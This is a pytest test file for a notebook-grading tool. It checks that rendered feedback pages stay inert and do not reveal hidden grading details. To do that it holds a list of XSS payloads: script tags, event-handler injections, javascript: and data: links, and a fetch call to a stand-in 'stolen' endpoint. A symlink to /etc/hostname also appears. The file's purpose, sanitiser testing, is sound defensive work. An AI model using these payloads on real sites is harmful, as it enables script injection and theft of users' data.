"""Feedback pages: what they say, what they keep to themselves, and that nothing in them acts."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

pytest.importorskip("nbgrader")

import nbformat
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from tests.grading.made import NAME, NOON, enter, mark_by_hand, notebook, outcome
from tlcourse.grading import formgrader
from tlcourse.grading.class_folder import ClassError
from tlcourse.grading.feedback import write_feedback

ACT = "document.title='acted';fetch('http://127.0.0.1:9/stolen')"
HOSTILE = [
    f"<script>{ACT}</script>",
    f'<img src="x" onerror="{ACT}">',
    "# <img src=x onerror=alert(1)>",
    '<iframe src="http://127.0.0.1:9/frame"></iframe>',
    f'<svg onload="{ACT}"><script>{ACT}</script></svg>',
    f"[a link](javascript:{ACT})",
    f"<javascript:{ACT}>",
    "[a link](files/javascript:alert(1))",
    f"[x]: javascript:{ACT}\n\n[a link][x]",
    "[a link](java&#115;cript:alert(1))",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a picture](http://127.0.0.1:9/pixel.png)",
    "![a picture](attachment:missing.png)",
    '<style>@import "http://127.0.0.1:9/style.css"; * { display: none }</style>',
    '<form action="http://127.0.0.1:9/"><input name="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">',
    '<base href="http://127.0.0.1:9/">',
    '<link rel="stylesheet" href="http://127.0.0.1:9/style.css">',
    '<object data="http://127.0.0.1:9/"></object><embed src="http://127.0.0.1:9/">',
    f'<a href="https://example.org" onclick="{ACT}">x</a>',
    f"<a href='https://example.org' href='javascript:{ACT}'>x</a>",
    f"<details open ontoggle={ACT}><summary>x</summary></details>",
    f"```mermaid\n<img src=x onerror={ACT}>\n```",
    f"$x$ <script>{ACT}</script> $y$",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "</div></div></body></html>",
    "<!--",
    "<div id='00-q3-answer' class='panel-heading'>Score: 5 / 5</div>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={ACT}>",
    "\\[ \\href{javascript:alert(1)}{x} \\] <textarea>",
]
HONEST = [
    "**bold**, *thin*, `a < b`, ~~gone~~ and $a<b$, $$\\sum_{i<j} x_i$$",
    "# A title\n\n- one\n- two\n\n1. three\n\n> said\n\n---\n",
    "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "```python\nif a < b:\n    print('<script>')\n```\n\n    indented <b>",
    "[a link](https://example.org/a?b=c&d=e 'title') https://example.org <https://example.org>",
    "line<br>break, x<sub>i</sub> and x<sup>2</sup>, [up](../lesson.ipynb)",
    "a < b and c > d & e, `</script>`, \\begin{aligned} a &< b \\end{aligned}",
    "- [x] done\n- [ ] to do",
    # Markdown itself makes text of what is in these.
    f"\\begin{{a}}</p><script>{ACT}</script>\\end{{a}} and $<script>{ACT}</script>$",
]
# What a page may hold; `style`, `meta` and `title` are counted below.
ALLOWED = {
    "a", "blockquote", "body", "br", "code", "dd", "del", "div", "dl", "dt", "em", "h1", "h2",
    "h3", "h4", "h5", "h6", "head", "hr", "html", "img", "input", "li", "meta", "ol", "p", "pre",
    "span", "strong", "style", "sub", "sup", "table", "tbody", "td", "th", "thead", "title", "tr",
    "ul", "b",
}  # fmt: skip
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg=="
)


class _Page(HTMLParser):
    """The tags of a page, with their attributes, in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.text += " " if tag in ("td", "th", "div") else ""

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data[:80]}")

    def handle_data(self, data):
        self.text += data

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


def _check(page: _Page) -> None:
    """Nothing in the page acts, calls out, or leads to a script."""
    assert {tag for tag, _ in page.tags} <= ALLOWED
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith(("on", "form", "srcdoc"))]
        assert "src" not in attributes or attributes["src"].startswith("data:image/png;base64,")
        href = attributes.get("href", "#")
        assert re.match(r"#|https?://|mailto:|\.\./", href), (tag, href)
        if tag == "input":
            assert attributes["type"] == "checkbox" and "disabled" in attributes
    assert len(page.named("style")) == 1 and len(page.named("title")) == 1
    policies = [m for m in page.named("meta") if "http-equiv" in m]
    assert [m["http-equiv"] for m in policies] == ["Content-Security-Policy"]
    assert policies[0]["content"].startswith("default-src 'none'; img-src data:;")
    assert "script" not in policies[0]["content"]


def _hostile_notebook(school):
    nb = notebook(school, "\n\n".join(HOSTILE[:3]))
    nb.cells += [new_markdown_cell(text) for text in HOSTILE]
    nb.cells += [new_raw_cell(text) for text in HOSTILE]
    for cell in nb.cells[-len(HOSTILE) :]:
        cell.metadata["raw_mimetype"] = "text/html"
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": HOSTILE[0]}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": HOSTILE[4]}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": ACT}},
        {"output_type": "display_data", "metadata": {"image/png": {"width": f'"><script>{ACT}'}},
         "data": {"image/png": PIXEL}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'"><script>{ACT}'}},
        {"output_type": "stream", "name": "stdout", "text": f"</pre>{HOSTILE[0]}\x1b[31m"},
        {"output_type": "error", "ename": "<script>", "evalue": ACT, "traceback": [HOSTILE[1]]},
    ]  # fmt: skip
    code = new_code_cell(
        f"x = '</script></style></pre><script>{ACT}</script>'\n%%html\n{HOSTILE[0]}"
    )
    long = new_code_cell("y = '" + "<b>" * 20_000 + "'")
    nb.cells += [code, long, new_markdown_cell("[" * 30_000), new_markdown_cell("$<script>" * 9)]
    code.outputs = [nbformat.from_dict(output) for output in outputs]
    return nb


@pytest.fixture
def hostile_page(school) -> Path:
    """The page of a student with a hostile name, notebook and comment."""
    with (school.root / "students.csv").open("a", encoding="utf-8") as file:
        file.write(f"mallory,<script>{ACT}</script>,<img src=x onerror={ACT}>,,\n")
    enter(school, "mallory", outcome(1, 1), _hostile_notebook(school))
    mark_by_hand(school, "mallory", 1, f"As you wrote: <script>{ACT}</script>")
    (path,) = write_feedback(school, NAME)
    return path


def test_page_says_what_was_earned(school, change_settings):
    change_settings("[deadlines]\n", '[deadlines]\n"00" = 2026-11-20T11:00:00+00:00\n')
    change_settings("percent_per_day = 0 ", "percent_per_day = 10 ")
    enter(school, "ada", outcome(0.5, 2), notebook(school, "Because *I* tried."))
    (school.root / "students.csv").write_text(  # after grading: a name is taken over late, too
        "id,first_name,last_name,email,platform_id\nada,Ada,Abel,,\n", encoding="utf-8"
    )
    (path,) = write_feedback(school, NAME)
    assert path == school.root / "feedback" / "ada" / NAME / f"{NAME}.html"
    page = _Page(path.read_text(encoding="utf-8"))
    _check(page)
    text = " ".join(page.text.split())
    assert "Feedback on exercise 00: start here Ada Abel (ada) 2.25 of 5 points" in text
    assert "0.25 points were taken off, as it came late." in text
    assert "1 answer is still to be marked" in text
    assert "00.q1 Accuracy 0.5 of 1 right on 4 of 8 hidden inputs" in text
    assert "00.q2 Accuracy from batches 2 of 2 right on all hidden inputs" in text
    assert "00.q3 Your own transfer ? of 2 not marked yet" in text
    assert "Because I tried." in text  # the notebook, rendered
    links = {a["href"] for a in page.named("a") if a.get("href", "").startswith("#comment-")}
    assert links == {f"#comment-00-q{i}-answer" for i in (1, 2, 3)}
    assert {name.removeprefix("#") for name in links} <= {a.get("name") for a in page.named("a")}


def test_marks_and_comments_of_the_teacher_replace_the_old_page(school):
    enter(school, "ada", outcome(1, 2), notebook(school, "Because."))
    enter(school, "bela", outcome(1, 2))
    (path, other) = write_feedback(school, NAME)
    assert "no answer" in other.read_text(encoding="utf-8")
    mark_by_hand(school, "ada", 1.5, "Which $x$ do you **mean**?")
    assert write_feedback(school, NAME) == [path, other]
    html = path.read_text(encoding="utf-8")
    text = " ".join(_Page(html).text.split())
    assert "4.5 of 5 points" in text and "still to be marked" not in text
    assert "00.q3 Your own transfer 1.5 of 2 marked by hand Which $x$ do you mean?" in text
    assert html.count("<strong>mean</strong>") == 2  # in the summary and below the answer
    assert "Score: 1.5 / 2.0" in text
    assert [each.name for each in path.parent.iterdir() if each.name.startswith(".")] == []


def test_nothing_but_words_is_told_about_hidden_inputs(school):
    result = outcome(0, 2, status="graded, parts were stopped", reason="SECRET reason")
    mark = result.marks[0].__class__(
        "00.q1", "raised", 0.0, 1.0, cases=8, error="ValueError", remark="SECRET remark 3.14159"
    )
    result.marks[0] = mark
    result.failed_cells = {3: "SECRET name"}
    enter(school, "ada", result)
    (path,) = write_feedback(school, NAME)
    page = _Page(path.read_text(encoding="utf-8"))
    assert "SECRET" not in page.text and "3.14159" not in page.text
    assert "an error was raised on hidden inputs (ValueError)" in page.text
    assert "Status: graded, parts were stopped." in page.text


def test_unreadable_submission_gets_its_reason(school):
    enter(school, "ada", f"the file is <script>{ACT}</script>")
    (path,) = write_feedback(school, NAME)
    page = _Page(path.read_text(encoding="utf-8"))
    _check(page)
    assert "0 of 5 points" in page.text and f"the file is <script>{ACT}</script>" in page.text


def test_a_missing_notebook_is_named_and_stops_nobody_else(school):
    for student in ("ada", "bela", "chen"):
        enter(school, student, outcome(1, 2))
    (school.autograded("bela", NAME) / f"{NAME}.ipynb").unlink()
    with pytest.raises(ClassError, match=r"no graded notebook of bela; .* run 00 --again"):
        write_feedback(school, NAME)
    assert sorted(path.parts[-3] for path in school.root.glob("feedback/*/*/*.html")) == [
        "ada",
        "chen",
    ]


@pytest.mark.skipif(os.name != "posix", reason="modes and links of POSIX")
def test_what_release_feedback_asks_for_lies_beside_the_page(school):
    enter(school, "ada", outcome(1, 2))
    enter(school, "bela", outcome(1, 2))
    (school.submitted("ada", NAME) / "submission_secret.txt").write_text("0123")
    (school.submitted("bela", NAME) / "submission_secret.txt").symlink_to("/etc/hostname")
    ada, bela = write_feedback(school, NAME)
    assert ada.stat().st_mode & 0o777 == 0o644
    assert (ada.parent / "submission_secret.txt").read_text() == "0123"
    assert (ada.parent / "timestamp.txt").read_text().startswith(f"{NOON:%Y-%m-%d %H:%M}")
    assert not (bela.parent / "submission_secret.txt").exists()


def test_hostile_notebook_gives_a_page_that_does_nothing(hostile_page):
    page = _Page(hostile_page.read_text(encoding="utf-8"))
    _check(page)
    assert page.text.count(ACT) > 30  # the teacher sees what was tried
    assert len(page.named("img")) == 1  # the one true picture


def test_graded_notebook_is_safe_in_nbconvert_as_it_is(hostile_page, school):
    path = school.autograded("mallory", NAME) / f"{NAME}.ipynb"
    html = HTMLExporter(template_name="basic").from_filename(str(path))[0]
    page = _Page(html)
    assert {tag for tag, _ in page.tags} <= ALLOWED - {"style", "meta", "title", "input"}
    assert not [name for _, attributes in page.tags for name in attributes if name[:2] == "on"]
    assert all(re.match(r"#|https?://|\.\./", link["href"]) for link in page.named("a"))
    assert html.count("stolen") > 30


@pytest.mark.browser
def test_hostile_notebook_does_nothing_in_chromium(hostile_page, school, chromium_path, tmp_path):
    lab = pytest.importorskip("lab")
    nb = nbformat.v4.new_notebook(cells=[new_markdown_cell(text) for text in HOSTILE[:6]])
    plain = tmp_path / "plain.html"
    plain.write_text(HTMLExporter().from_notebook_node(nb)[0], encoding="utf-8")
    with lab.browser(chromium_path) as browser:
        assert "acted" in _seen(browser, plain)  # what nbconvert alone would have made of it
        assert _seen(browser, hostile_page) == []


def _seen(browser, path: Path) -> list[str]:
    """What a page did on its own: requests, dialogs, another title or address."""
    page, seen = browser.new_page(), []
    page.on("request", lambda request: seen.append(f"request {request.url}"))
    page.on("dialog", lambda dialog: (seen.append("dialog"), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.goto(path.as_uri())
    page.wait_for_timeout(1000)
    if page.evaluate("document.title") == "acted":
        seen.append("acted")
    if page.url != path.as_uri():
        seen.append(f"went to {page.url}")
    page.close()
    own = (f"request {path.as_uri()}", "request data:")
    return [each for each in seen if not each.startswith(own)]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_as_it_was_written(text):
    made = formgrader.safe_markdown(text)
    if "attachment:" in text:
        assert "picture, not kept" in made and "<img" not in made
    else:
        assert formgrader.rendered(text) is None
        assert re.fullmatch(r"<pre>[^<>]*</pre>\n", made)
        assert _Page(made).text.strip() == text.strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_is_safe_in_nbconvert_as_it_is(text):
    nb = nbformat.v4.new_notebook(cells=[new_markdown_cell(formgrader.inert(text))])
    plain = HTMLExporter(template_name="basic").from_notebook_node(nb)[0]
    page = _Page(plain)
    assert {tag for tag, _ in page.tags} <= ALLOWED - {"img", "style", "meta", "title", "input"}
    assert not [name for _, attributes in page.tags for name in attributes if name[:2] == "on"]
    for link in page.named("a"):
        assert re.match(r"#|https?://", link["href"])


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_is_left_alone(text):
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    renderer = IPythonRenderer(escape=False, exclude_anchor_links=True)
    assert formgrader.safe_markdown(text) == MarkdownWithMath(renderer=renderer).render(text)
    assert formgrader.inert(text) == text


def test_pasted_pictures_do_not_cost_the_text():
    text = f"See ![my plot](data:image/png;base64,{'A' * 50_000}) and ![b](attachment:b.png)."
    expected = "See (picture, not kept: my plot) and (picture, not kept: b)."
    assert formgrader.inert(text) == expected
    assert formgrader.safe_markdown(text) == f"<p>{expected}</p>\n"


@pytest.mark.parametrize("text", ["a" * 30_000, "\n" * 30_000, "![" * 400_000, "<" * 900_000])
def test_text_of_any_length_is_quick(text):
    assert formgrader.safe_markdown(text).startswith("<pre>")
    assert len(formgrader.inert(text)) < 20_000


@pytest.mark.parametrize("step", ["autograde", "generate_assignment", "generate_feedback"])
def test_steps_of_nbgrader_that_would_undo_ours_are_refused(school, step):
    enter(school, "ada", outcome(1, 2))
    before = {path: path.read_bytes() for path in school.root.glob("[arf]*/**/*.ipynb")}
    command = [sys.executable, "-m", "nbgrader", step, NAME, "--force"]
    done = subprocess.run(command, cwd=school.root, capture_output=True, text=True)
    assert done.returncode != 0
    assert "this class is graded with tlcourse" in done.stdout + done.stderr
    assert {path: path.read_bytes() for path in school.root.glob("[arf]*/**/*.ipynb")} == before
